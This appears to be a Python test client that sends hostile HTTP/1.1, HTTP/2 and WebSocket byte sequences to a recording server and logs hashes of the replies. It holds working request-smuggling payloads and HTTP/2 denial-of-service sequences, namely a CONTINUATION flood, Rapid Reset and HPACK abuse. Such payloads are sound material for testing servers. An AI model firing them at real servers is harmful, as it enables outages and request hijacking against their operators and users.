"""Sends hostile byte sequences to a recording server, one connection per case, and reports what came back.

Usage: hostile-client.py HOST PORT CASE...   Each case's connection sends its bytes, half-closes, reads to the
server's close and prints "CASE name length sha256" of what it received on stderr. Every loop is bounded.
"""
import hashlib
import random
import socket
import struct
import sys

host, port = sys.argv[1], int(sys.argv[2])
authority = b'hostile.test'  # the same bytes on both routes, so the server's recordings compare


def http1(text):
    return text.replace(b'HOST', authority)


def with_body(head, body):
    """{head} takes the body's length."""
    return http1(head.replace(b'LENGTH', str(len(http1(body))).encode()) + body)


PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'


def frame(kind, flags, stream, payload):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload


def settings(*pairs):
    return frame(0x4, 0, 0, b''.join(struct.pack('>HI', key, value) for key, value in pairs))


def get_block(path=b'/'):
    """HPACK: :method GET, :scheme http, :path, :authority, all without indexing."""
    return (b'\x82\x86' + b'\x04' + bytes([len(path)]) + path
            + b'\x01' + bytes([len(authority)]) + authority)


def continuation_flood():
    out = [PREFACE, settings(), frame(0x1, 0x0, 1, get_block(b'/continuation'))]
    fragment = b'\x40\x01a\x7f\x00' + b'b' * 2043  # literal fields never ended: a block that grows
    out += [frame(0x9, 0x0, 1, fragment)] * 20000  # 20,000 frames, about 41 MB
    return b''.join(out)


def rapid_reset():
    out = [PREFACE, settings()]
    for i in range(20000):
        stream = 2 * i + 1
        out.append(frame(0x1, 0x5, stream, get_block(b'/reset')))  # END_STREAM | END_HEADERS
        out.append(frame(0x3, 0x0, stream, struct.pack('>I', 0x8)))  # RST_STREAM CANCEL
    return b''.join(out)


def hpack_abuse():
    out = [PREFACE, settings((0x1, 0), (0x1, 65536), (0x1, 4096))]  # SETTINGS_HEADER_TABLE_SIZE changes
    # Dynamic table size updates (0 then 4096), then a 100 KB literal with incremental indexing.
    huge = b'v' * 100000
    length = b'\x7f' + encode_integer(len(huge) - 127)
    block = b'\x20' + b'\x3f\xe1\x1f' + get_block(b'/hpack') + b'\x40\x05x-big' + length + huge
    out.append(frame(0x1, 0x1, 1, block[:16384]))
    out.append(frame(0x9, 0x4, 1, block[16384:]))
    out.append(frame(0x1, 0x5, 5, b'\xff\xff\xff\x7f' + get_block(b'/past-the-table')))  # index 2^21+
    return b''.join(out)


def encode_integer(value):
    out = b''
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


def websocket_garbage():
    head = (b'GET /websocket HTTP/1.1\r\nHost: HOST\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n'
            b'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n')
    return http1(head) + random.Random(7).randbytes(1 << 20)


CASES = {
    'clte': with_body(b'POST /clte HTTP/1.1\r\nHost: HOST\r\nContent-Length: LENGTH\r\nTransfer-Encoding: chunked\r\n\r\n',
                      b'0\r\n\r\nGET /clte-smuggled HTTP/1.1\r\nHost: HOST\r\n\r\n'),
    'twote': http1(b'POST /twote HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n'
                   b'Transfer-Encoding: identity\r\n\r\n5\r\nhello\r\n0\r\n\r\n'),
    'tefold': http1(b'POST /tefold HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding:\r\n chunked\r\n\r\n'
                    b'5\r\nhello\r\n0\r\n\r\n'),
    'barecr': http1(b'GET /barecr HTTP/1.1\r\nHost: HOST\r\nX-A: a\rX-B: b\r\n\r\n'),
    'barelf': http1(b'GET /barelf HTTP/1.1\nHost: HOST\n\n'),
    'url64k': http1(b'GET /url64k?' + b'a' * 65536 + b' HTTP/1.1\r\nHost: HOST\r\n\r\n'),
    'url1m': http1(b'GET /url1m?' + b'a' * (1 << 20) + b' HTTP/1.1\r\nHost: HOST\r\n\r\n'),
    'smuggle': with_body(b'POST /smuggle HTTP/1.1\r\nHost: HOST\r\nContent-Length: LENGTH\r\n\r\n',
                         b'GET /smuggle-inner HTTP/1.1\r\nHost: HOST\r\n\r\n')
               + http1(b'GET /smuggle-second HTTP/1.1\r\nHost: HOST\r\n\r\n'),
    'lower': http1(b'get /lower HTTP/1.1\r\nHost: HOST\r\n\r\n'),
    'tabs': http1(b'GET\t/tabs\tHTTP/1.1\r\nHost: HOST\r\n\r\n'),
    'spaces': http1(b'GET   /spaces   HTTP/1.1\r\nHost: HOST\r\n\r\n'),
    'absolute': http1(b'GET http://HOST/absolute HTTP/1.1\r\nHost: HOST\r\n\r\n'),
    'websocket': websocket_garbage(),
    'continuation': continuation_flood(),
    'reset': rapid_reset(),
    'hpack': hpack_abuse(),
    'normal': http1(b'GET /normal HTTP/1.1\r\nHost: HOST\r\n\r\n'),
}

for name in sys.argv[3:]:
    s = socket.create_connection((host, port), timeout=60)
    s.sendall(CASES[name])
    s.shutdown(socket.SHUT_WR)
    received = hashlib.sha256()
    length = 0
    while True:
        data = s.recv(65536)
        if not data:
            break
        received.update(data)
        length += len(data)
    s.close()
    sys.stderr.write('CASE %s %d %s\n' % (name, length, received.hexdigest()))
    sys.stderr.flush()
